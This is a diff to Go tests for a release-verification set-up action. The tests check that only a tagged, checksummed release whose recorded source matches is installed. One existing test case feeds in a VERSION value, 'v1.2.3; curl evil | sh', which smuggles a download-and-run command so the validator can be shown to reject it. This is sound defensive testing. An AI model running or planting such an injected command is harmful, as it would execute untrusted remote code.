@@ -22,6 +22,9 @@ import (
 func TestInstallReleaseChecksTheBinary(t *testing.T) {
 	for _, tool := range []string{"bash", "curl", "sha256sum"} {
 		if _, err := exec.LookPath(tool); err != nil {
+			if os.Getenv("RELPROOF_REQUIRE_CURL") != "" {
+				t.Fatalf("%s is not on PATH", tool)
+			}
 			t.Skipf("skipping: %s is not on PATH (.ci/run installs it)", tool)
 		}
 	}
@@ -134,6 +137,9 @@ func TestSetupInstallsOnlyARelease(t *testing.T) {
 		{"a branch", "main", "false", nil, 2, "relproof/relproof@main is not a release"},
 		{"a release without its checksums", "v1", "false", map[string]string{"release/VERSION": "v1.2.3"}, 2, "release v1.2.3 has no recorded checksums"},
 		{"a VERSION that is no version", "v1", "false", map[string]string{"release/VERSION": "v1.2.3; curl evil | sh"}, 2, "release/VERSION at v1: expected vX.Y.Z"},
+		{"a later commit, the release's files still in its tree", "main", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x",
+			"internal/cli/new.go": "package cli\n"}, 2, "relproof/relproof@main is not release v1.2.3: its source"},
+		{"a release whose source is not recorded", "v1", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x", "release/SOURCE": ""}, 2, "is not the one release/SOURCE records"},
 		{"a branch, built from source", "main", "true", nil, 0, "mode=source"},
 		{"a bad build-from-source", "main", "yes", nil, 2, `input build-from-source: expected "true" or "false", found "yes"`},
 	} {
@@ -149,6 +155,32 @@ func TestSetupInstallsOnlyARelease(t *testing.T) {
 					t.Fatal(err)
 				}
 				if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			// The set-up action hashes its source with the shared script; a
+			// release records that hash as it was at the release.
+			script, err := os.ReadFile(filepath.Join(repoRoot(t), "actions/lib/source-hash.sh"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := os.MkdirAll(filepath.Join(dir, "actions/lib"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(dir, "actions/lib/source-hash.sh"), script, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if _, ok := tc.files["release/SOURCE"]; !ok && tc.files["release/VERSION"] != "" {
+				// Recorded before the later commit's new file, if any.
+				probe := t.TempDir()
+				if err := os.WriteFile(filepath.Join(probe, "go.mod"), []byte(goMod), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				sum, err := exec.Command("bash", filepath.Join(dir, "actions/lib/source-hash.sh"), probe).Output()
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(filepath.Join(dir, "release/SOURCE"), sum, 0o644); err != nil {
 					t.Fatal(err)
 				}
 			}
